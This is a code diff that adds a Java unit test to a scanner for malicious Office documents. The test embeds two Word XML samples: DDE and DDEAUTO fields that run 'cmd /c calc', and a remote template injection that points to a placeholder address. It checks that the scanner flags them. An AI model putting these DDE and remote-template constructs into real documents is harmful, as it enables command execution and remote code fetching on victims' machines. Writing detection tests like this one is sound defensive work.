@@ -229,6 +229,37 @@ class DdeAnalyzerTest {
         return out.toByteArray();
     }
 
+    @Test
+    void wordXmlFormatsAreReadToo() {
+        String word2003 = """
+                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+                <?mso-application progid="Word.Document"?>
+                <w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p>
+                <w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r>
+                <w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:wordDocument>""";
+        String flatOpc = """
+                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+                <?mso-application progid="Word.Document"?>
+                <pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">
+                <pkg:part pkg:name="/word/_rels/settings.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData>
+                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
+                 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.9/t.dotm" TargetMode="External"/></Relationships>
+                </pkg:xmlData></pkg:part>
+                <pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"><pkg:xmlData>
+                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>
+                <w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "/></w:p></w:body></w:document>
+                </pkg:xmlData></pkg:part></pkg:package>""";
+
+        Report w2003 = TestEngines.scanFile("memo.xml", word2003.getBytes(StandardCharsets.UTF_8));
+        Report flat = TestEngines.scanFile("memo2.xml", flatOpc.getBytes(StandardCharsets.UTF_8));
+
+        assertEquals("application/vnd.ms-wordml", w2003.root().detectedType());
+        assertEquals("DDEAUTO", ReportChecks.only(w2003, "dde.field").evidence().get("keyword"));
+        assertEquals("application/vnd.ms-word2006ml", flat.root().detectedType());
+        assertEquals("DDE", ReportChecks.only(flat, "dde.field").evidence().get("keyword"));
+        assertEquals("http://192.0.2.9/t.dotm", ReportChecks.only(flat, "ooxml.external-template").evidence().get("url"));
+    }
+
     interface ParagraphEdit {
         void apply(XWPFParagraph p);
     }
